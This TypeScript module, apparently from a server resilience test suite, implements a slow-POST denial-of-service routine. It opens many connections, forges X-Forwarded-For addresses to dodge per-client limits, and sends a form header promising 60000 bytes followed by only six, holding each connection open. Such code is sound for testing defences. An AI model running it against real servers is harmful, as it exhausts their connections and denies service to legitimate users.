import type { Socket } from 'node:net'
import { openConnection } from './storms.ts'

interface Attack {
  url: string
  networks: number
  /** Of each network, each from an address of its own. */
  connections: number
  path: string
}

/** Connections that send the head of a form and six bytes of it, and then no more. */
export async function sendSlowForms({ url, networks, connections, path }: Attack) {
  const sockets: Socket[] = []
  const statuses: number[] = []
  for (let network = 0; network < networks; network++) {
    const opened = await Promise.all(Array.from({ length: connections }, () => openConnection(url)))
    for (const [number, socket] of opened.entries()) {
      socket.once('data', (bytes) => statuses.push(Number(bytes.toString('latin1', 9, 12))))
      socket.write(slowForm(url, path, `198.18.${network}.${number + 1}`))
    }
    sockets.push(...opened)
  }
  return {
    /** What the server has answered so far; a connection that it has closed without an answer has none. */
    statuses,
    open: () => sockets.filter((socket) => !socket.destroyed).length,
    stop() {
      for (const socket of sockets) socket.destroy()
    },
  }
}

function slowForm(url: string, path: string, ip: string): string {
  const lines = {
    Host: new URL(url).host,
    'X-Forwarded-For': ip,
    'Content-Type': 'application/x-www-form-urlencoded',
    'Content-Length': '60000',
  }
  const head = Object.entries(lines).map(([name, value]) => `${name}: ${value}\r\n`)
  return `POST ${path} HTTP/1.1\r\n${head.join('')}\r\nname=a`
}
